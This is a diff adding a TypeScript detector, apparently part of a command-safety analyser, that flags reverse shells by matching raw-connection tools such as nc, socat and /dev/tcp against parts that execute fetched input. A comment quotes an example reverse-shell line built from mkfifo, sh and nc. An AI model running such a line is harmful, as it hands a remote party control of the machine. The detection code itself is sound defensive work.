@@ -1,0 +1,28 @@
+import type { Effect } from '../../core/index.ts';
+import type { Part } from '../part.ts';
+
+/** Programs and redirections that open a raw connection; what only probes a port does not count. */
+const connection =
+	/(^|[\s/])(nc(\.\w+)?|ncat|netcat|telnet|socat|rlwrap|cryptcat|dbclient)\s(?!.*(?<=\s)-\w*z)|openssl s_client|\/dev\/(tcp|udp)\//;
+
+/** Whys of what executes something that it gets from elsewhere. */
+const executesInput =
+	/^(it executes what it is fed|a command line that cannot be known|which program runs cannot be known|fetched code)/;
+
+/**
+ * Finds what no command does alone: a shell whose input or output is a raw connection, through a pipe, a named pipe
+ * or a descriptor (`mkfifo f; sh <f | nc h 1 >f`). Every part of such a line is told so.
+ */
+export function nameReverseShells(parts: readonly Part[]): readonly Part[] {
+	const isConnected = (part: Part) =>
+		connection.test(part.text.slice(0, 8_000)) && part.effects.some(({ kind }) => kind === 'network');
+	if (!parts.some(isConnected) || !parts.some((part) => part.effects.some(isExecuting))) return parts;
+	const why = 'reverse shell: what another machine sends is executed here';
+	return parts.map((part) =>
+		isConnected(part) ? { ...part, effects: [...part.effects, { kind: 'opaque', why }] } : part,
+	);
+}
+
+function isExecuting(effect: Effect): boolean {
+	return effect.kind === 'opaque' && executesInput.test(effect.why);
+}
